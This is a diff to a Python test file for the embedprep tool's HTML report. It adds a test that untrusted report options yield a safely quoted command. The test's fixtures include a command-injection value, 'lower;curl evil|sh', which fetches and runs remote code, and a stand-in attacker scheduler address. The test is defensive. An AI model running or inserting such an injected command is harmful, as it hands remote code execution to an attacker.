@@ -18,7 +18,7 @@ import embedprep
 from embedprep.errors import UsageError
 from embedprep.options import Options
 from embedprep.report.html import render
-from embedprep.report.html.command import build_command
+from embedprep.report.html.command import build_command, fallback_option
 from embedprep.report.html.projection import fitted, labels, principal_components
 from embedprep.report.html.sample import NORMS, norms
 from embedprep.report.wording import LONGEST, percent, shortened
@@ -299,6 +299,13 @@ def test_the_command_is_the_build_with_its_options() -> None:
     assert "--no-subwords --fallback lower,digits-hash,possessive,accents" in words
     negative = report(options={"seed": -1, "dim": 50})
     assert " --seed=-1 --dim 50 " in (build_command(negative, ()) or "")
+
+
+def test_a_report_of_a_stranger_makes_no_command_that_trusts_or_runs_anything() -> None:
+    told = {"trust_pickle": True, "scheduler": "tcp://evil:1", "engine": "dask", "dim": 3}
+    said = build_command(report(options=told), ("lower;curl evil|sh",)) or ""
+    assert said.endswith("-o wiki.npy --dim 3 --fallback 'lower;curl evil|sh'")
+    assert fallback_option(("lower;curl evil|sh",)) == "--fallback 'lower;curl evil|sh'"
 
 
 @pytest.mark.parametrize("path", [None, "bad\x1bname.npy"])
